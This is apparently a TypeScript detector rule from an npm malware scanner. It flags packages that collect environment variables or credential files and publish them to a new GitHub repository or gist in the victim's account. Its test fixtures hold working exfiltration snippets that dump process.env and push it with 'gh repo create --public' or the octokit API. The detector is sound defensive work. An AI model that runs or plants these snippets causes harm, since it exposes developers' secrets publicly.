import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { scriptsWith } from "./_npm.ts";
import { matchInCode, sight } from "./_sight.ts";

const LITERALS = [
  "repo create",
  "/user/repos",
  "createforauthenticateduser",
  "'repo', 'create'",
  '"repo", "create"',
  "/gists",
  "gist create",
] as const;
/** Makes a repository, or a note, of the account whose token it found. */
const CREATES =
  /\bgh[ \t]{1,3}(?:repo|gist)[ \t]{1,3}create|["']repo["'],\s{0,4}["']create["']|\/user\/repos\b|createForAuthenticatedUser|\bPOST[ \t]{1,3}\/gists|\/gists["'`]/;
/** What is there to be sent. */
const MOST_APART = 6_000;

export const pushesCollectedData: Detector = {
  id: "pushes-collected-data",
  title: "Takes the environment or credentials and makes a repository in the victim's account",
  severity: "critical",
  ecosystems: ["npm"],
  points: 5.6,
  class: "threat",
  group: "exfiltration",
  why: `Close together the code takes the whole environment or files with credentials, and has the account that is logged in make a repository or a note. Worms of
2025 and 2026 published what they found this way: the traffic goes to a host that every developer talks to.

Tools that start projects make repositories too, of what the user has written; they take no credentials beside it.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of scriptsWith(tree, LITERALS)) {
      const creates = matchInCode(file, CREATES);
      if (creates === undefined) continue;
      const taken = deedsOf(file, "environment", "secret-file").find(
        ({ offset }) => Math.abs(offset - creates.index) < MOST_APART,
      );
      if (taken !== undefined)
        yield sight(file, creates.index, `${taken.what} is taken beside ${creates[0]}`, { phase: taken.phase });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { execSync } = require('child_process');\nrequire('fs').writeFileSync('/tmp/d/r.json', JSON.stringify(process.env));\nexecSync('cd /tmp/d && git init && git add . && gh repo create out --public --source=. --push');\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { execSync } = require('child_process');\nexecSync(`gh repo create ${name} --private --source=.`, { env: process.env });\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const e = { ...process.env };\nawait octokit.request('POST /user/repos', { name: 'out' });\nawait octokit.request('PUT /repos/{owner}/{repo}/contents/e', { content: encode(e) });\n",
        },
      },
    ],
  },
};
